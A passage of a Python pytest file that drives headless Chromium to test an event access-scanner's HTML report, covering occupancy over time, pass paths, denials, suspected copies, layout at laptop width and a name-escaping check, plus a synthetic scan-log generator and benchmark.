  });
  return out;
}
function next(i) {
  if (i >= targets.length) {
    document.getElementById("out").textContent = JSON.stringify(results);
    return;
  }
  var frame = document.createElement("iframe");
  frame.style.width = "1280px";
  frame.style.height = "900px";
  frame.onload = function () {
    var doc = frame.contentDocument, win = frame.contentWindow;
    var scroll = doc.getElementById("scans").parentNode;
    results.push({
      at: doc.getElementById("at-summary").getAttribute("data-at"),
      atSummary: doc.getElementById("at-summary").textContent,
      atInput: doc.getElementById("at-time").value,
      atPeople: texts(doc, "at-people"),
      atZones: texts(doc, "at-zones"),
      pathSummary: doc.getElementById("path-summary").textContent,
      path: texts(doc, "path-scans"),
      scans: texts(doc, "scans"),
      status: doc.getElementById("f-status").textContent,
      ready: ["scans", "at-people", "path-scans"].map(function (id) {
        return doc.getElementById(id).getAttribute("data-ready");
      }),
      wrapped: wrapped(doc, "#scans td, #scans th, #path-scans td, #at-people td"),
      overflow: scroll.scrollWidth - scroll.clientWidth,
      pageOverflow: doc.documentElement.scrollWidth - doc.documentElement.clientWidth,
      gatesWrapped: wrapped(doc, "#gates td"),
      scripts: doc.scripts.length,
      elements: doc.getElementsByTagName("*").length,
      resources: win.performance.getEntriesByType("resource").map(function (e) { return e.name; }),
      tz: doc.getElementById("tz").textContent,
      peopleNow: doc.getElementById("people-now").textContent
    });
    frame.remove();
    next(i + 1);
  };
  frame.src = targets[i];
  document.body.appendChild(frame);
}
next(0);
</script></body></html>
"""


def open_in_chromium(urls: Sequence[str], tmp: Path) -> tuple[list[dict[str, Any]], str]:
    """What each page showed at 1280 px, and Chromium's log (console lines)."""
    harness = tmp / "harness.html"
    harness.write_text(HARNESS % json.dumps(list(urls)), encoding="utf-8")
    result = chromium(
        "--allow-file-access-from-files",
        "--dump-dom",
        "--virtual-time-budget=10000",
        harness.as_uri(),
        tmp=tmp,
    )
    assert result.returncode == 0, result.stderr[-2000:]
    out = result.stdout.split('<pre id="out">', 1)[1].split("</pre>", 1)[0]
    assert out != "pending", result.stderr[-2000:]
    return json.loads(html.unescape(out)), result.stderr


def column(rows: list[dict[str, Any]], i: int) -> list[str]:
    return [r["cells"][i] for r in rows]


@pytest.fixture(scope="module")
def venue_views(venue_report: Path, tmp_path_factory: pytest.TempPathFactory) -> Any:
    url = venue_report.as_uri()
    views, log = open_in_chromium(
        [
            url + "#at=2026-12-05T22:00&in=dressing-rooms&path=105",
            url + "#at=2026-12-05T22:00&in=backstage&path=Cleo",
            url,
            url + "#q=bob&path=bob",
        ],
        tmp_path_factory.mktemp("chromium"),
    )
    return views, log


@needs_chromium
def test_the_time_control_at_22_00_shows_who_was_in_the_dressing_rooms(venue_views: Any) -> None:
    views, _ = venue_views
    dressing, backstage = views[0], views[1]
    assert dressing["at"] == "2026-12-05T22:00:00"  # a link to the minute opens at :00
    assert dressing["atSummary"].startswith(
        "2 people inside dressing-rooms at 2026-12-05 22:00:00 (Europe/Berlin)"
    )
    assert column(dressing["atPeople"], 0) == ["Ann Artist", "Eli Encore"]
    assert column(dressing["atPeople"], 3) == ["dressing-rooms", "dressing-rooms"]
    assert column(dressing["atPeople"], 4) == ["2026-12-05 21:31:00", "2026-12-05 21:40:40"]
    # ... and they count as inside backstage, with Ben, Cleo and Bob (green room).
    assert backstage["atSummary"].startswith("5 people inside backstage at 2026-12-05 22:00:00")
    assert sorted(column(backstage["atPeople"], 0)) == sorted(
        ["Ann Artist", "Eli Encore", "Ben Guest", "Cleo Crew", BOB]
    )
    assert "Dora Double" not in column(backstage["atPeople"], 0)  # in the photo pit
    zones = {r["cells"][0].strip("\u2003"): r["cells"][1] for r in backstage["atZones"]}
    assert zones == {"backstage": "5", "dressing-rooms": "2", "green-room": "1", "photo-pit": "1"}
    assert "6 people inside in all" in backstage["atSummary"]


@needs_chromium
def test_the_time_control_starts_at_the_last_scan_and_agrees_with_inside_now(
    venue_views: Any,
) -> None:
    views, _ = venue_views
    now = views[2]
    assert now["at"] == "2026-12-05T22:30:30"  # the last scan, to its second
    assert now["atInput"] == "2026-12-05T22:30:30"  # and the picker shows that second
    assert now["atSummary"].startswith("6 people inside the venue")
    assert set(column(now["atPeople"], 0)) == PEOPLE_NOW
    assert now["peopleNow"] == "6 people"


@needs_chromium
def test_one_passs_path_lists_every_scan_across_doors(venue_views: Any) -> None:
    views, _ = venue_views
    cleo = views[1]
    assert cleo["pathSummary"] == "Serial 104 (Cleo Crew, working): 4 scans."
    # time, serial, holder, gate, door, zone, direction, decision, reason, then in
    assert [r["cells"][3:8] + r["cells"][9:] for r in cleo["path"]] == [
        ["artist-in", "artist-entrance", "backstage", "entry", "\u2713 granted", "backstage"],
        ["green-in", "green-room", "green-room", "entry", "\u2713 granted", "green-room"],
        ["green-out", "green-room", "green-room", "exit", "\u2713 granted", "backstage"],
        ["green-in", "green-room", "green-room", "entry", "\u2713 granted", "green-room"],
    ]
    assert column(cleo["path"], 0)[2] == "2026-12-05 21:55:08"
    dora = views[0]
    assert dora["pathSummary"] == "Serial 105 (Dora Double, aaa): 2 scans, 2 in suspected copies."
    assert all("copy" in r["cls"] for r in dora["path"])
    assert column(dora["path"], 4) == ["artist-entrance", "pit-gate"]


@needs_chromium
def test_a_refusal_shows_in_the_path_with_its_reason(venue_report: Path, tmp_path: Path) -> None:
    views, _ = open_in_chromium([venue_report.as_uri() + "#path=Ben"], tmp_path)
    (ben,) = views
    assert [r["cells"][7:9] for r in ben["path"]] == [
        ["\u2713 granted", ""],
        ["\u2717 denied", "not allowed in this zone"],
    ]
    assert "denied" in ben["path"][1]["cls"] and "copy" not in ben["path"][1]["cls"]


@needs_chromium
def test_in_the_browser_only_the_real_copy_is_marked(venue_views: Any) -> None:
    views, _ = venue_views
    marked = {(r["cells"][1], r["cells"][6]) for r in views[2]["scans"] if "copy" in r["cls"]}
    assert marked == {("artist-in", "Dora Double"), ("pit-in", "Dora Double")}


@needs_chromium
def test_times_in_the_browser_are_the_events(venue_views: Any) -> None:
    views, _ = venue_views
    assert views[2]["tz"] == "Europe/Berlin"
    assert column(views[2]["scans"], 0)[0] == "2026-12-05 22:30:30"  # 21:30:30 UTC


@needs_chromium
def test_the_scans_table_and_the_page_read_at_laptop_width(venue_views: Any) -> None:
    views, _ = venue_views
    for view in views:
        assert view["ready"] == ["1", "1", "1"]
        assert view["wrapped"] == []  # no cell breaks onto a second line
        assert view["overflow"] <= 1  # and the table fits: no sideways scrolling
        # nor does the page: the gates table, with its door alarms, fits too
        assert view["pageOverflow"] <= 1, view["pageOverflow"]
        assert view["gatesWrapped"] == []


@needs_chromium
def test_a_hostile_name_stays_text_in_the_browser(venue_views: Any) -> None:
    views, _ = venue_views
    bob = views[3]
    assert column(bob["scans"], 6) == [BOB, BOB]
    assert column(bob["path"], 2) == [BOB, BOB]
    assert bob["pathSummary"].startswith(f"Serial 107 ({BOB}, vip)")
    assert all(view["scripts"] == 2 for view in views)  # the page's own: the name added none


@needs_chromium
def test_the_page_makes_no_requests_and_logs_no_errors(venue_views: Any) -> None:
    views, log = venue_views
    assert all(view["resources"] == [] for view in views)
    assert "CONSOLE" not in log and "Uncaught" not in log, log[-2000:]


@needs_chromium
def test_a_log_bigger_than_the_page_still_places_everyone_from_its_cut(
    venue: Path, policy: Policy, tmp_path: Path
) -> None:
    # Only the last 6 scans of passes fit: where everyone was before them
    # comes first, so the time control stays exact from there on.
    out = tmp_path / "capped.html"
    write_report(venue / "all.db", out, policy=policy, moves_cap=6, now=NOW)
    page = out.read_text(encoding="utf-8")
    assert "the page holds the" in section(page, "when")
    assert tile(page, "people inside now") == len(PEOPLE_NOW)
    (now, late) = open_in_chromium(
        [out.as_uri(), out.as_uri() + "#at=2026-12-05T22:20&in=green-room"], tmp_path
    )[0]
    assert set(column(now["atPeople"], 0)) == PEOPLE_NOW
    assert set(column(late["atPeople"], 0)) == {"Cleo Crew", BOB}
    # Before the cut the control does not go: it stops at the cut.
    early = open_in_chromium([out.as_uri() + "#at=2026-12-05T21:00"], tmp_path)[0][0]
    assert early["at"] > "2026-12-05T21:00"


@pytest.fixture(scope="module")
def busy_report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("busy")
    db = tmp / "all.db"
    generate_merged_db(db, gates=12, scans_per_gate=400)
    out = tmp / "report.html"
    write_report(db, out, now=NOW)
    return out


@needs_chromium
def test_a_busy_report_filters_its_table_without_errors_at_laptop_width(
    busy_report: Path, tmp_path: Path
) -> None:
    (view,), log = open_in_chromium([busy_report.as_uri() + "#decision=denied"], tmp_path)
    assert "CONSOLE" not in log and "Uncaught" not in log, log[-2000:]
    assert view["ready"] == ["1", "1", "1"]
    assert view["scans"], "the filtered table drew no rows"
    assert all(r["cells"][8] == "\u2717 denied" for r in view["scans"])
    assert re.fullmatch(r"[\d,]+ of [\d,]+ rows match\.", view["status"])
    assert view["wrapped"] == [] and view["overflow"] <= 1
    assert view["atPeople"] and view["atSummary"].endswith("(UTC).")


@needs_chromium
def test_the_report_shows_its_charts_in_chromium(busy_report: Path, tmp_path: Path) -> None:
    np = pytest.importorskip("numpy")
    cv2 = pytest.importorskip("cv2")
    shot = tmp_path / "report.png"
    result = chromium(
        f"--screenshot={shot}",
        "--window-size=1280,2000",
        "--hide-scrollbars",
        busy_report.as_uri(),
        tmp=tmp_path,
    )
    assert shot.exists(), result.stderr[-2000:]
    assert "Uncaught" not in result.stderr
    image = cv2.imread(str(shot))
    assert image is not None and image.shape[:2] == (2000, 1280)

    def pixels(colour: str) -> int:
        rgb = [int(colour[i : i + 2], 16) for i in (1, 3, 5)]
        bgr = np.array(rgb[::-1], dtype=np.int16)
        return int((np.abs(image.astype(np.int16) - bgr).max(axis=2) <= 6).sum())

    # Legend swatches are 14 px squares (under 200 pixels): only drawn charts pass this.
    zone_colours = [c for c in ZONE_COLOURS if pixels(c) > 2000]
    assert len(zone_colours) >= 5, "the stacked entries chart is missing"
    heat = [c for c in HEAT_COLOURS if pixels(c) > 1000]
    assert len(heat) >= 4, "the gate heat map is missing"
    assert pixels(DENIAL_CLASSES["forged"][1]) > 2000, "the denials chart is missing"


# -- scale ---------------------------------------------------------------------------


def generate_merged_db(
    path: Path, *, gates: int = 50, scans_per_gate: int = 20_000, seed: int = 1
) -> int:
    """A plausible merged log: passes walk between zones, a few copies and forgeries.

    Gates come in entry/exit pairs, one pair per zone in turn. Each pass makes
    about 50 scans over the evening, a few minutes apart at least; every
    500th pass is also scanned at another gate 30 s later (a copy), about 1 in
    20 scans is denied. Returns the rows written.
    """
    rng = random.Random(seed)
    zones = list(ZONES)
    tiers = ["aaa", "vip", "working", "local-crew", "staff", "photo", "after-show"]
    denials = [
        "zone_not_allowed",
        "phase_not_allowed",
        "already_inside",
        "expired",
        "revoked",
        "bad_signature",
        "unknown_key",
        "malformed",
        "wrong_event",
        "clock_untrusted",
    ]
    names = [f"gate-{i:02d}" for i in range(gates)]
    gate_zone = [zones[(i // 2) % len(zones)] for i in range(gates)]
    gate_dir = ["entry" if i % 2 == 0 else "exit" for i in range(gates)]
    start = int(datetime(2026, 12, 5, 16, 0, tzinfo=UTC).timestamp())
    per_pass = 50
    total = gates * scans_per_gate
    rows: list[tuple[Any, ...]] = []
    serial = 0
    while len(rows) < total:
        serial += 1
        tier = rng.choice(tiers)
        holder = f"Holder {serial}"
        t = start + rng.randrange(0, 2 * 3600)
        entry = True
        gate = rng.randrange(0, gates, 2)
        for _ in range(min(per_pass, total - len(rows))):
            g = gate if entry else gate + 1 if gate + 1 < gates else gate
            reason = rng.choice(denials) if rng.random() < 0.05 else "ok"
            forged = reason in ("bad_signature", "unknown_key", "malformed")
            rows.append((t, g, None if forged else serial, tier, holder, reason))
            if serial % 500 == 0 and entry and len(rows) < total:
                other = (g + 2) % gates
                rows.append((t + 30, other, serial, tier, holder, "ok"))
            t += 180 + int(rng.expovariate(1 / 600))
            if reason == "ok":
                entry = not entry
                if entry:
                    gate = rng.randrange(0, gates, 2)
    rows = rows[:total]
    rows.sort(key=lambda r: (r[1], r[0]))
    conn = create_merged_db(path, with_gates=True)
    conn.execute("PRAGMA journal_mode=OFF")
    conn.execute("PRAGMA synchronous=OFF")
    seq = [0] * gates
    batch = []
    for t, g, ser, tier, holder, reason in rows:
        seq[g] += 1
        forged = ser is None
        batch.append(
            (
                str(uuid.UUID(int=rng.getrandbits(128), version=4)),
                seq[g],
                time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(t)),
                names[g],
                gate_zone[g],
                gate_dir[g],
                None,
                None if forged or reason == "wrong_event" else EVENT,
                ser,
                None if forged else tier,
                None if forged else holder,
                "granted" if reason == "ok" else "denied",
                reason,
                None if forged else "k1",
                "untrusted" if reason == "clock_untrusted" else "trusted",
                "during",
                "Granted." if reason == "ok" else f"Denied: {reason}.",
                "c" * 64,
                "0" * 64,
                "f" * 64,
            )
        )
        if len(batch) >= 50_000:
            insert_scans(conn, batch)
            batch = []
    insert_scans(conn, batch)
    conn.executemany(
        "INSERT INTO gates VALUES (?, ?, ?, ?)",
        [(names[g], f"dk{g}", seq[g], "2026-12-06T03:00:00Z") for g in range(gates)],
    )
    index_merged_db(conn)
    conn.close()
    return len(rows)


def bench(gates: int, scans_per_gate: int) -> None:
    """Time the report and CSV on a generated log (not a test: figures vary by machine)."""
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        db = Path(tmp) / "all.db"
        t0 = time.perf_counter()
        rows = generate_merged_db(db, gates=gates, scans_per_gate=scans_per_gate)
        t1 = time.perf_counter()
        print(f"generated {rows:,} rows in {t1 - t0:.1f} s ({db.stat().st_size / 1e6:.0f} MB)")
        write_report(db, Path(tmp) / "report.html")
        t2 = time.perf_counter()
        size = (Path(tmp) / "report.html").stat().st_size
        print(f"logs report: {t2 - t1:.1f} s, page {size / 1e6:.1f} MB")
        written = write_csv(db, Path(tmp) / "scans.csv")
        t3 = time.perf_counter()
        print(f"logs report --csv: {written:,} rows in {t3 - t2:.1f} s")


if __name__ == "__main__":
    if sys.argv[1:2] != ["bench"]:
        sys.exit(__doc__)
    sizes = [int(a) for a in sys.argv[2:4]]
    bench(*(sizes + [50, 20_000][len(sizes) :]))


def test_denial_classes_follow_what_the_door_signals_with_revoked_kept_apart():
    """A suspected copy is its own kind of denial, as the door signals it, never
    coloured as a forgery; a revoked pass is kept apart from forgeries."""
    from scanner.core.decision import Reason
    from scanner.manager.report.reasons import class_of_reason as _class_of_reason

    for reason in Reason:
        if reason.signal.value != "granted":
            assert _class_of_reason(reason.value) in DENIAL_CLASSES, reason
    assert _class_of_reason("suspected_copy") == "suspected_copy"
    colours = {DENIAL_CLASSES[_class_of_reason(r)][1] for r in ("suspected_copy", "bad_signature")}
    assert len(colours) == 2
    assert _class_of_reason("revoked") == "revoked"
    assert _class_of_reason("zone_full") == "not_here"


def test_a_scan_shows_the_same_second_in_the_tables_as_on_the_timeline():
    """The timeline's moves are whole seconds rounded from the stored time;
    the tables round the same way, so 20:00:00.700 is 20:00:01 in both."""
    from zoneinfo import ZoneInfo

    from scanner.manager.report.clock import Clock as _Clock

    clock = _Clock(ZoneInfo("Europe/Berlin"), "Europe/Berlin")
    assert clock.show("2026-12-05T19:00:00.700Z") == "2026-12-05 20:00:01"
    assert clock.show("2026-12-05T19:00:00.400Z", date=False) == "20:00:00"
    assert clock.show("2026-12-05T19:59:59.600Z", date=False) == "21:00:00"
